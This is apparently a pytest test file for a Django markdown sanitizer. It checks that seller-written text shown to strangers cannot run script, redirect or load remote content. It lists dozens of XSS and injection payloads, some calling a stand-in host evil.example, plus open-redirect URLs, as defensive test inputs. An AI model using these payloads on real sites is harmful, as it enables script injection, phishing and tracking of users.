"""What a seller writes is shown to strangers: nothing in it may run, call home or vouch."""

import re
from html.parser import HTMLParser

import pytest
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from common.web.markdown import LONGEST, in_readers_language, render_markdown

ALIGNED = ("p", "div", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td")
ALLOWED = {tag: {"align"} for tag in ALIGNED}
for _tag, _attributes in {
    "a": {"href", "title", "rel", "id", "name"},
    "button": {"class", "type", "data-copy"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "ol": {"start"},
    "details": {"open"},
    "abbr": {"title"},
    "span": {"class", "role", "aria-label"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    **{heading: {"id"} for heading in ("h3", "h4", "h5", "h6")},
}.items():
    ALLOWED[_tag] = ALLOWED.get(_tag, set()) | _attributes

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><path/></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<form action=//evil.example><button>Pay</button></form>",
    '<p style="position:fixed;inset:0">x</p>',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<https://a.example/"><script>alert(1)</script>>',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![a" onerror="alert(1)](x)',
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n</code></div><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    </code><img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:|\n| b |",
    "**<b onmouseover=alert(1)>x</b>**",
    "<div class='snippet'><button formaction=javascript:alert(1)>x</button></div>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1) style=color:red>x</summary>y</details>",
    "<kbd onfocus=alert(1) tabindex=1 autofocus>x</kbd>",
    "<h1 id=checkout name=cookie class=btn>x</h1><a id=app name=body href='#app'>x</a>",
    '<a title="<pre>" href=\'//evil.example\'>x</a><pre><a title="</pre><script>alert(1)</script>">x</a></pre>',
    '<b title="<a x=" y="></a><img src=x onerror=alert(1)>">x</b>',
    "<table><tr><td colspan=99999999 rowspan=0 background=//evil.example bgcolor=red>x</table></td><table>",
    "<button type=submit data-copy formaction=//evil.example class=copy>x</button>",
    "<div class=snippet><code>docker pull good</code><details><code>curl evil</code></details></div>",
    "<input type=checkbox checked disabled><span class='task btn' role=alert aria-label=evil>x</span>",
    'www.evil.example/<script>alert(1)</script> https://a.example/"onmouseover=alert(1)',
    "\x00<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
]


class _Shape(HTMLParser):
    """Every element and attribute that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def stays(target: str) -> bool:
    """Whether a browser that follows it stays with the shop: it takes a backslash for a slash, and tabs and ends of lines away."""
    return target[:1] == "/" and re.sub(r"[\t\r\n]", "", target).replace("\\", "/")[1:2] != "/"


def assert_harmless(html: str) -> None:
    for tag, attributes in _Shape(html).elements:
        assert tag not in {
            "script",
            "img",
            "svg",
            "iframe",
            "style",
            "form",
            "input",
            "math",
            "meta",
            "base",
            "object",
            "template",
        }
        assert set(attributes) <= ALLOWED.get(tag, set()) | {"title", "lang"}, (tag, attributes)
        if tag == "a":
            assert attributes["rel"] == "nofollow ugc noopener"
            target = (attributes.get("href") or "").strip().lower()
            scheme = target.partition(":")[0] if ":" in target.partition("/")[0] else ""
            assert scheme in {"http", "https", "mailto"} or not target or target.startswith("#readme-") or stays(target)
        if tag == "button":
            assert attributes == {"class": "copy", "type": "button", "data-copy": ""}
        for anchor in ("id", "name"):
            assert str(attributes.get(anchor, "readme-")).startswith("readme-")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_survives(payload: str) -> None:
    assert_harmless(render_markdown(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_survives_in_a_list_in_a_quote(payload: str) -> None:
    assert_harmless(render_markdown(f"> - {payload}\n\n{payload}"))


@given(st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", " ", "`", "*", "[", "](", "<", ">", "|", "# ", "text"]), max_size=8))
def test_no_mixture_of_payloads_survives(parts: list[str]) -> None:
    assert_harmless(render_markdown("".join(parts)))


def test_links_vouch_for_nothing() -> None:
    assert render_markdown("[docs](https://docs.example/x)") == (
        '<p><a href="https://docs.example/x" rel="nofollow ugc noopener">docs</a></p>\n'
    )


def test_pictures_are_dropped_and_their_text_too() -> None:
    assert render_markdown("Before ![badge](https://ci.example/badge.svg) after") == "<p>Before  after</p>\n"


def test_what_held_nothing_but_a_picture_goes_with_it() -> None:
    assert render_markdown("[![badge](https://ci.example/b.svg)](https://ci.example)\n\nText") == "<p>Text</p>\n"
    assert render_markdown('<p align="center"><a href="https://ci.example"><img src="b.svg"></a></p>\n\nText') == "<p>Text</p>\n"


def test_headings_stand_below_those_of_the_page() -> None:
    html = render_markdown("# One\n\n## Two\n\n### Three\n\n###### Six\n\n<h1 align='center'>Tool</h1>")

    assert html == (
        '<h3 id="readme-one">One</h3>\n<h3 id="readme-two">Two</h3>\n<h4 id="readme-three">Three</h4>\n<h6 id="readme-six">Six</h6>\n'
        '<h3 align="center">Tool</h3>'
    )


@pytest.mark.parametrize(
    ("text", "anchors"),
    [
        pytest.param("# Getting *started*, `now`!", ["getting-started-now"], id="punctuation goes"),
        pytest.param("# Usage\n\n# Usage\n\n# Usage", ["usage", "usage-1", "usage-2"], id="the same name again"),
        pytest.param("# Größe & co", ["größe--co"], id="other alphabets"),
        pytest.param("# \N{ROCKET} Start", ["-start"], id="emoji"),
        pytest.param("# snake_case-and-hyphen", ["snake_case-and-hyphen"], id="hyphens stay"),
    ],
)
def test_headings_are_named_as_on_github(text: str, anchors: list[str]) -> None:
    headings = [attributes["id"] for tag, attributes in _Shape(render_markdown(text)).elements if tag == "h3"]

    assert headings == [f"readme-{anchor}" for anchor in anchors]


def test_words_of_the_renderer_are_in_the_readers_language_and_those_of_the_text_as_written() -> None:
    html = render_markdown("- [x] Copy\n- [ ] to do\n\n|Table|\n|-|\n\n    Copy</button>\n")

    with translation.override("de"):
        german = in_readers_language(html)

    assert re.findall(r'aria-label="(.*?)"|>(\w+)</button>', german) == [
        ("erledigt", ""),
        ("zu tun", ""),
        ("Tabelle", ""),
        ("", "Kopieren"),
    ]
    assert re.sub("<[^>]*>", " ", german).split() == ["Copy", "to", "do", "Table", "Copy&lt;/button&gt;", "Kopieren"]
    assert in_readers_language(html) == html


def test_links_within_the_text_lead_to_its_headings() -> None:
    html = render_markdown("[up](#usage) <a href='#old'>old</a>\n\n# Usage\n\n<a name='old'></a>")

    assert '<a href="#readme-usage"' in html
    assert '<a href="#readme-old"' in html
    assert '<a name="readme-old"' in html


@pytest.mark.parametrize(
    "target",
    ["/northgrid/wal-archiver", "/northgrid", "/", "/help/docker/#podman", "/search/?q=postgres&category=databases", "/a/b?x=//c"],
)
def test_links_within_the_shop_are_kept(target: str) -> None:
    markdown, html = render_markdown(f"[x]({target})"), render_markdown(f'<a href="{target}">x</a>')

    for shown in (markdown, html):
        assert [attributes for tag, attributes in _Shape(shown).elements if tag == "a"] == [
            {"href": target, "rel": "nofollow ugc noopener"}
        ]


@pytest.mark.parametrize(
    "target",
    [
        *("docs/install.md", "LICENSE", "../../x", "?next=x", "//evil.example", "/\\evil.example", "\\\\evil.example"),
        *("/&Tab;/evil.example", "/&#10;/evil.example", "/&#92;evil.example", "/a&#92;b", "&#47;/evil.example", "/&#1;/evil.example"),
    ],
)
def test_a_link_that_may_lead_nowhere_is_its_text_alone(target: str) -> None:
    markdown, html = render_markdown(f"[**x**]({target})"), render_markdown(f'<a href="{target}" title="y"><strong>x</strong></a>')

    assert markdown == html == "<p><strong>x</strong></p>\n"


def test_an_anchor_without_an_address_stays_what_links_lead_to() -> None:
    html = render_markdown('<a id="here">x</a> <a name="there">y</a>')

    assert [(attributes.get("id"), attributes.get("name")) for tag, attributes in _Shape(html).elements if tag == "a"] == [
        ("readme-here", None),
        (None, "readme-there"),
    ]


def test_bare_addresses_are_links() -> None:
    assert render_markdown("See https://docs.example/x.") == (
        '<p>See <a href="https://docs.example/x" rel="nofollow ugc noopener">https://docs.example/x</a>.</p>\n'
    )


@pytest.mark.parametrize(
    "html",
    [
        "one<br>two",
        "<kbd>Ctrl</kbd>+<kbd>C</kbd>",
        "H<sub>2</sub>O and x<sup>2</sup>",
        "<details><summary>More</summary>It.</details>",
        '<div align="center">Middle</div>',
        "<dl><dt>Term</dt><dd>Its meaning</dd></dl>",
        '<div class="scroll" role="region" tabindex="0" aria-label="Table"><table><tbody><tr><td align="right" colspan="2">1</td></tr></tbody></table></div>',
    ],
)
def test_harmless_html_is_rendered(html: str) -> None:
    written = html.removeprefix('<div class="scroll" role="region" tabindex="0" aria-label="Table">') if "<table>" in html else html

    assert html in render_markdown(written)


def test_markdown_inside_of_html_is_rendered_too() -> None:
    assert "<strong>it</strong>" in render_markdown("<details><summary>More</summary>\n\n**it**\n\n</details>")


def test_tasks_are_boxes_with_words() -> None:
    assert render_markdown("- [ ] write\n- [x] test\n- [X] ship\n- [x](y) read") == (
        '<ul>\n<li><span class="task" role="img" aria-label="to do"></span> write</li>\n'
        '<li><span class="task done" role="img" aria-label="done"></span> test</li>\n'
        '<li><span class="task done" role="img" aria-label="done"></span> ship</li>\n'
        "<li>x read</li>\n</ul>\n"
    )


def test_cells_are_aligned_without_a_style() -> None:
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")

    assert '<th align="left">a</th>\n<th align="center">b</th>\n<th align="right">c</th>' in html
    assert "style" not in html


def test_nobody_writes_a_copy_button_that_copies_something_else() -> None:
    html = render_markdown("<pre>docker pull good<details>; curl evil</details></pre>\n\n<div class='snippet'><code>a</code></div>")

    assert html.count("data-copy") == html.count('class="snippet"') == 1
    assert "<code>docker pull good; curl evil</code>" in html


def test_a_code_block_can_be_copied() -> None:
    assert render_markdown('```sh\ndocker run "$IMAGE" <in\n```') == (
        '<div class="snippet"><code>docker run "$IMAGE" &lt;in</code><button class="copy" type="button" data-copy="">Copy</button></div>\n'
    )


def test_tables_and_strikethrough_are_understood() -> None:
    html = render_markdown("| a | b |\n|---|---|\n| ~~1~~ | 2 |")

    assert "<th>a</th>" in html
    assert "<td><s>1</s></td>" in html


def test_a_text_beyond_the_limit_is_cut() -> None:
    assert render_markdown("a" * (LONGEST + 100)) == f"<p>{'a' * LONGEST}</p>\n"
